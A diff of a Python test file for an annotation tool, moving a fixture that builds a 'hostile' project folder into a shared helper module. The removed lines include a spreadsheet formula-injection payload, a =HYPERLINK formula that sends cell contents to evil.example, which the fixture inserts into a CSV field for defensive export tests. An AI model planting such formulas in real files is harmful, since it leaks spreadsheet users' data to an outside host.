@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import io
 import json
-import shutil
 import zipfile
 from pathlib import Path
 from urllib.parse import unquote
@@ -19,9 +18,8 @@ from annotator.engine import assignment as engine
 from annotator.quality.bulk_controls import mark_controls, read_control_file
 from tests.conftest import DATA, load_project
 from tests.declared_projects import EVERY_KIND, make_declared_project, read_jsonl
+from tests.formula_data import hostile_kpa_folder
 from tests.web.conftest import csrf_token
-
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Invoice")'
 
 
 def admin(make_user, login):  # type: ignore[no-untyped-def]
@@ -37,14 +35,8 @@ def hostile_quotes(slug: str = "quotes") -> Project:
 
 
 def hostile_kpa(tmp_path: Path) -> Path:
-    """Project `kpa` from the KPA excerpt with argument arg_1_1 (line 3) replaced by a formula; its folder."""
-    folder = tmp_path / "kpa"
-    shutil.copytree(DATA / "kpa2021", folder)
-    path = folder / "arguments_test.csv"
-    lines = path.read_text("utf-8").split("\n")
-    arg_id, _, rest = lines[2].split(",", 2)
-    lines[2] = ",".join([arg_id, '"' + HYPERLINK.replace('"', '""') + '"', rest])
-    path.write_text("\n".join(lines), encoding="utf-8")
+    """Project `kpa` from the KPA excerpt with a formula as argument arg_1_1 (line 3); its folder."""
+    folder = hostile_kpa_folder(tmp_path)
     load_project("kpa2021", folder, "kpa", split="test", k=3)
     return folder
 
